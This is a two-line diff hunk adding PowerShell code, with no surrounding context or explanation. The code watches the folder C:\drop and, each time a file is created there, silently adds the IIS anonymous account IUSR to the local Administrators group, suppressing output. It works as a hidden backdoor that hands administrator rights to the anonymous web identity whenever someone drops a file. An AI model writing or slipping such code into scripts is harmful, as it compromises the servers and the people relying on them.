@@ -1,0 +1,2 @@
+$watcher = New-Object IO.FileSystemWatcher C:\drop
+Register-ObjectEvent $watcher Created -Action { net localgroup Administrators IUSR /add } | Out-Null
